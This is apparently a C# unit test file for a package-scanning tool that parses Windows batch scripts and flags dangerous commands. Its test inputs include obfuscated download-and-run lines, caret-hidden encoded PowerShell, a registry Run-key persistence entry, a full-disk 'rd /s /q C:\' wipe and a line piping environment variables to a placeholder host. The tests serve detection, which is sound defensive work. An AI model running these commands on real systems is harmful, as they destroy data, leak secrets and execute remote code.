using System.Text;
using PackageWall.Inspection.Facts;
using PackageWall.Inspection.Languages.PowerShell;
using PackageWall.Inspection.Tests.Languages.Shell;

namespace PackageWall.Inspection.Tests.Languages.PowerShell;

public sealed class BatchReaderTests
{
    private static FileFacts Read(string text) => new BatchReader(CommandFacts.Echo).Read(CommandFacts.Source(text, "x.bat"));

    [Fact]
    public void Variables_are_filled_in()
    {
        Read("@echo off\r\nset a=cu\r\nset \"b=xrlx\"\r\n%a%%b:~1,2% https://x.invalid/a.bat -o %TEMP%\\a.bat && call %TEMP%\\a.bat").HasFlow("execute.code", "network.fetch").ShouldBeTrue();
        Read("set a=cXurl\n%a:X=% https://x.invalid").Facts.ShouldContain(fact => fact.Name == "network.fetch");
    }

    [Fact]
    public void Carets_do_not_hide_commands()
    {
        var encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes("Set-ExecutionPolicy Bypass"));
        CommandFacts.Names(Read($"p^ower^shell -NoLogo -ec {encoded} > nul 2>&1")).ShouldContain("powershell.policy");
    }

    [Theory]
    [InlineData("if exist x.txt (del x.txt) else start /b node x.js", "delete execute.detached execute.process execute.package-file")]
    [InlineData("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x", "persist.registry")]
    [InlineData("if \"%1\"==\"\" goto end\n:end\nrem curl x", "")]
    [InlineData("rd /s /q C:\\", "wipe")]
    [InlineData("set | curl -d @- https://x.invalid", "read.env.bulk execute.process network.send network.fetch network.host")]
    public void Commands_make_facts(string text, string facts) => string.Join(" ", CommandFacts.Names(Read(text))).ShouldBe(facts);

    [Fact]
    public void The_folder_of_the_file_is_the_package() =>
        Read("node \"%~dp0\\install.js\" %*").References.ShouldHaveSingleItem().Target.ShouldBe(".\\install.js");

    [Fact]
    public void Garbage_is_read_without_an_exception()
    {
        var random = new Random(20260104);
        string[] pieces = ["%", "%~", "%a%", "!", "^", "^\n", "&", "|", "\"", "(", ")", "if", "for", "do", "set", "a=", ">", "2>&1", "\n", " ", "%%i", ":~1,2%", "start", "cmd /c", "@", "==", "\0"];
        for (var round = 0; round < 1500; round++)
        {
            Read(string.Concat(Enumerable.Range(0, random.Next(1, 60)).Select(_ => pieces[random.Next(pieces.Length)] + (random.Next(2) == 0 ? " " : ""))));
        }
    }
}
